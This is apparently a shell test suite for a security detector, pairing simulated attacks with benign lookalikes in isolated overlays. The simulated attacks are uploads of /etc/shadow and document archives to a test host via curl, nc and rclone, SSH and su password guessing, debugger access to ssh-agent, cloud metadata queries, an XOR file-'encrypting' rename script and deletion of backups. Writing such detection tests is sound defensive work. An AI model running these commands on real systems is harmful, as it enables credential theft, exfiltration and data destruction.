# Secrets and files that are read, guessed, packed, sent away, copied on or destroyed; and daily work that looks alike.
# Everything lies in the overlays of run.sh, and traffic stays on one wire. Passwords are those of throw-away users.

prepare() {
  export DEBIAN_FRONTEND=noninteractive
  printf '#!/bin/sh\nexit 101\n' >/usr/sbin/policy-rc.d
  chmod 0755 /usr/sbin/policy-rc.d
  apt-get -qq update
  apt-get -qq -y install --no-install-recommends openssh-server openssh-client sshpass gdb rclone zip
  install -d /run/sshd /opt/keys
  ip -n "$far" addr add 169.254.169.254/32 dev wire
  # visitor: five wrong ones before this one
  printf 'guest:orange-seven\nvisitor:apple-nine\n' | chpasswd
  local home
  for home in /home/guest /home/visitor /root; do
    install -d -m 0700 "$home/.ssh"
    ssh-keygen -q -t ed25519 -N '' -C capture -f "$home/.ssh/id_ed25519"
  done
  cat /home/guest/.ssh/id_ed25519.pub >/home/guest/.ssh/authorized_keys
  chown -R 4242:4242 /home/guest
  chown -R 4243:4243 /home/visitor
  install -m 0600 -o 4242 -g 4242 /home/guest/.ssh/id_ed25519 /tmp/.key
  install -m 0600 -o 33 -g 33 /home/guest/.ssh/id_ed25519 /opt/keys/web
  install -d -o 4242 -g 4242 /home/guest/documents /home/guest/pictures /opt/work
  local number
  for number in $(seq 1 45); do
    echo "letter $number" >"/home/guest/documents/letter$number.txt"
    echo "picture $number" >"/home/guest/pictures/picture$number.jpg"
  done
  chown -R 4242:4242 /home/guest/documents /home/guest/pictures
  install -d /var/backups/old /srv/backup
  cat >/opt/work/look.sh <<'LOOK'
#!/bin/bash
id
uname -a
ps ax >/dev/null
ip address >/dev/null
cat /etc/passwd >/dev/null
LOOK
  cat >/opt/work/rename.py <<'RENAME'
import os, sys, time
folder, ending, most = sys.argv[1], sys.argv[2], int(sys.argv[3])
for name in sorted(os.listdir(folder))[:most]:
    path = os.path.join(folder, name)
    text = open(path, "rb").read()
    with open(path, "wb") as file:
        file.write(bytes(byte ^ 0x2a for byte in text))
    time.sleep(0.02)
    os.rename(path, path + ending)
RENAME
  printf 'import socket,sys\ns=socket.create_connection((sys.argv[2].split("/")[-1].split(":")[0],9001))\ns.close()\n' >/opt/work/m.py
}

ask='-o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3 -o LogLevel=ERROR'
# The secure shell of this host, on a port of its own; ends with the scenario.
secure_shell() { /usr/sbin/sshd -p 2222 -o PidFile=none -o PasswordAuthentication=yes -o MaxAuthTries=20; until_true listens 2222; }

scenario hashes_read "cat shows /etc/shadow" shadow_read
hashes_read() { cat /etc/shadow; }

scenario hashes_used "programs that check passwords read the hashes"
hashes_used() { passwd -S guest; chage -l guest; su guest -c true; true; }

scenario hashes_listed "getent shows the hashes" shadow_read
hashes_listed() { getent shadow guest; }

scenario hashes_uploaded "curl uploads /etc/shadow" shadow_read shadow_sent_away
hashes_uploaded() { curl -sm 5 -T /etc/shadow "http://$far_ip/"; true; }

scenario other_file_uploaded "curl uploads a file that is no secret"
other_file_uploaded() { curl -sm 5 -T /etc/hostname "http://$far_ip/"; true; }

scenario agent_traced "a debugger attaches to the agent that holds keys" agent_memory_traced
agent_traced() {
  as_guest ssh-agent -a /tmp/agent -D &
  until_true test -S /tmp/agent
  gdb -p "$(pgrep -x ssh-agent)" -batch -ex detach >/dev/null 2>&1
  true
}

scenario own_program_traced "a debugger attaches to a program that sleeps"
own_program_traced() { sleep 9 & gdb -p $! -batch -ex detach >/dev/null 2>&1; true; }

scenario memory_opened "a script opens the memory of another process" process_memory_read foreign_memory_write
memory_opened() {
  as_guest sleep 9 &
  sleep 0.3
  /usr/bin/python3 -c "import sys; open(f'/proc/{sys.argv[1]}/mem', 'r+b').close()" "$!"
}

scenario own_memory_opened "a script opens its own memory"
own_memory_opened() { /usr/bin/python3 -c "open('/proc/self/mem', 'r+b').close()"; }

scenario keys_packed "tar reads all private keys" private_keys_collected
keys_packed() { tar cf /dev/null /home/guest/.ssh/id_ed25519 /home/visitor/.ssh/id_ed25519 /root/.ssh/id_ed25519 | cat; tar cf - /home/guest/.ssh/id_ed25519 /home/visitor/.ssh/id_ed25519 /root/.ssh/id_ed25519 | wc -c; }

scenario key_used "the tools of the secure shell read keys, one after another"
key_used() { local n; for n in 1 2 3 4; do as_guest ssh-keygen -y -f /home/guest/.ssh/id_ed25519; done; cat /root/.ssh/id_ed25519 | wc -c; }

scenario ssh_guessed "six passwords are tried over the secure shell, the last one is right" ssh_guessed_password
ssh_guessed() {
  secure_shell
  local word
  for word in one two three four five orange-seven; do
    as_visitor sshpass -p "$word" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 -p 2222 "guest@$near_ip" true
  done
  true
}

scenario ssh_mistyped "a password is mistyped twice before it is right"
ssh_mistyped() {
  secure_shell
  local word
  for word in one two orange-seven; do
    as_visitor sshpass -p "$word" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 -p 2222 "guest@127.0.0.1" true
  done
  true
}

scenario su_guessed "passwords are tried with su until one is right" su_guessed_password
su_guessed() {
  local word
  for word in one two three four five orange-seven; do echo "$word" | as_visitor su guest -c true; done
  true
}

scenario su_mistyped "a password for su is mistyped once"
su_mistyped() {
  echo wrong | as_guest su visitor -c true
  echo apple-nine | as_guest su visitor -c true
}

scenario metadata_by_curl "curl asks for the metadata of a cloud" cloud_metadata_asked
metadata_by_curl() { as_web curl -sm 5 http://169.254.169.254/latest/meta-data/iam/; true; }

scenario page_by_curl "curl asks for a page"
page_by_curl() { as_web curl -sm 5 "http://$far_ip/"; true; }

scenario machine_looked_over "a script looks at user, machine, processes, network and accounts" discovery_burst
machine_looked_over() { as_guest bash /opt/work/look.sh; }

scenario machine_partly_looked_over "a script looks at user, machine and processes only"
machine_partly_looked_over() { as_guest bash -c 'id; whoami; uname -r; hostname; ps ax >/dev/null; true'; }

scenario ssh_by_stolen_key "ssh with a key that lies in /tmp" ssh_with_planted_key
ssh_by_stolen_key() { as_guest ssh $ask -i /tmp/.key "root@$far_ip" true; true; }

scenario ssh_by_own_key "ssh with a key in the own home"
ssh_by_own_key() { as_guest ssh $ask -i /home/guest/.ssh/id_ed25519 "guest@$far_ip" true; true; }

scenario ssh_by_web_server "the account of a web server starts ssh" ssh_from_service_account
ssh_by_web_server() { as_web ssh $ask -i /opt/keys/web "guest@$far_ip" true; true; }

scenario tool_copied_and_run "a program comes by scp and is run" copied_then_run
tool_copied_and_run() {
  secure_shell
  as_guest scp -q $ask -i /home/guest/.ssh/id_ed25519 -P 2222 /bin/true "guest@$near_ip:/tmp/tool"
  as_guest ssh $ask -i /home/guest/.ssh/id_ed25519 -p 2222 "guest@$near_ip" "chmod 755 /tmp/tool; /tmp/tool"
}

scenario tool_copied_by_cp "a program is copied on the machine and run"
tool_copied_by_cp() { as_guest bash -c 'cp /bin/true /tmp/other; /tmp/other'; }

scenario archive_sent "documents are packed and uploaded" archive_uploaded
archive_sent() {
  as_guest bash -c "tar czf /tmp/d.tgz /home/guest/documents && curl -sm 5 -F f=@/tmp/d.tgz http://$far_ip/; true"
}

scenario archive_sent_by_nc "documents are packed with zip and sent with nc" archive_uploaded
archive_sent_by_nc() {
  as_guest bash -c "zip -qr /tmp/d.zip /home/guest/documents; nc -N -w 2 $far_ip 9001 </tmp/d.zip; true"
}

scenario archive_kept "documents are packed, and a page is fetched"
archive_kept() { as_guest bash -c "tar czf /tmp/e.tgz /home/guest/documents; curl -sm 5 http://$far_ip/; true"; }

scenario synced_away "rclone copies documents to a store" cloud_sync_started
synced_away() {
  as_guest rclone --config /dev/null --retries 1 --low-level-retries 1 --timeout 3s copy /home/guest/documents \
    ":webdav:/x" --webdav-url "http://$far_ip/"
  true
}

scenario synced_here "rclone copies documents to another folder"
synced_here() { as_guest rclone --config /dev/null copy /home/guest/documents /opt/work/copy; }

scenario miner_by_name "a program with the name of a miner connects" miner_connected
miner_by_name() { cp /bin/nc.openbsd /opt/work/xmrig; as_guest /opt/work/xmrig -w 1 -N "$far_ip" 9001 </dev/null; true; }

scenario miner_by_arguments "a program with the address of a pool connects" miner_connected
miner_by_arguments() { as_guest /usr/bin/python3 /opt/work/m.py -o "stratum+tcp://$far_ip:9001" -u capture.1; true; }

scenario miner_searched "somebody looks for miners"
miner_searched() { as_guest grep -rs stratum+tcp:// /etc/hostname; as_guest curl -sm 2 "http://$far_ip:9001/"; true; }

scenario documents_encrypted "a script gives all documents and pictures another ending" documents_renamed_in_bulk
documents_encrypted() { as_guest /usr/bin/python3 /opt/work/rename.py /home/guest/documents .locked 45; }

scenario few_renamed "a script renames a few pictures"
few_renamed() { as_guest /usr/bin/python3 /opt/work/rename.py /home/guest/pictures .old 12; }

scenario backups_removed "the folder of backups is removed" backups_destroyed
backups_removed() { rm -rf /var/backups/old /srv/backup; }

scenario rubbish_removed "a folder that is no backup is removed"
rubbish_removed() { install -d /tmp/backup; rm -rf /tmp/backup; }
